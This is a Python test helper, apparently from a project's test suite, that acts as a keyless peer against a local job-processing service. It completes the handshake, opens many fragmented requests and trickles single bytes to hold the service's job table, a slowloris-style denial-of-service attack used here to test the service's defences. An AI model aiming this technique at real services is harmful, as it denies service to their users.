#!/usr/bin/env python3
"""attack_tool.py - a keyless peer that holds a slave's job table
(tests/attack.t). Uses tests/dgram_tool.py's datagram forms.

  attack_tool.py hold PORT COUNT
      Completes the cookie handshake with the slave on 127.0.0.1:PORT as a
      master of its own, then opens COUNT requests of 16 one-byte fragments
      and sends only the first byte of each: every one is a job the slave
      holds while it waits for the rest. Prints "holding N jobs" (N: the
      requests the slave acknowledged), then pings twice a second and feeds
      each request one more byte every 20 s (it never gives up on them)
      until killed.
"""
import os, socket, struct, sys, time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from dgram_tool import JOB, handshake_ping, header, ping, parse, learn  # noqa: E402

JOB_ACK = 4


def hold(port, count):
    addr = ("127.0.0.1", port)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    me = int.from_bytes(os.urandom(8), "big") | 1
    version, boot, cookie, _ = learn(s, addr, me)
    if version < 4:
        sys.exit("the slave speaks format %d, not 4 or later" % version)
    seq = handshake_ping(s, addr, me, version, boot, cookie, 2)
    acked = set()

    def drain():
        s.setblocking(False)
        try:
            while True:
                d = parse(s.recv(70000))
                if d and d["type"] == JOB_ACK:
                    acked.add(d["job_id"])
        except BlockingIOError:
            pass

    def fragment(i, offset):
        nonlocal seq
        p = header(version, JOB, me, boot, seq, i) + struct.pack(">QIIH", 1, 16, offset, 1) + b"x"
        seq += 1
        s.sendto(p, addr)

    for i in range(1, count + 1):
        try:
            fragment(i, 0)
        except BlockingIOError:
            time.sleep(0.001)
        if i % 256 == 0:
            drain()
            time.sleep(0.005)
    time.sleep(0.3)
    drain()
    print("holding %d jobs" % len(acked), flush=True)
    offset, fed = 1, time.monotonic()
    while True:
        time.sleep(0.5)
        s.sendto(ping(version, me, boot, seq), addr)
        seq += 1
        drain()
        if time.monotonic() - fed > 20 and offset < 15:
            for i in range(1, count + 1):
                fragment(i, offset)
            offset, fed = offset + 1, time.monotonic()


if __name__ == "__main__":
    if len(sys.argv) == 4 and sys.argv[1] == "hold":
        hold(int(sys.argv[2]), int(sys.argv[3]))
    else:
        sys.exit(__doc__)
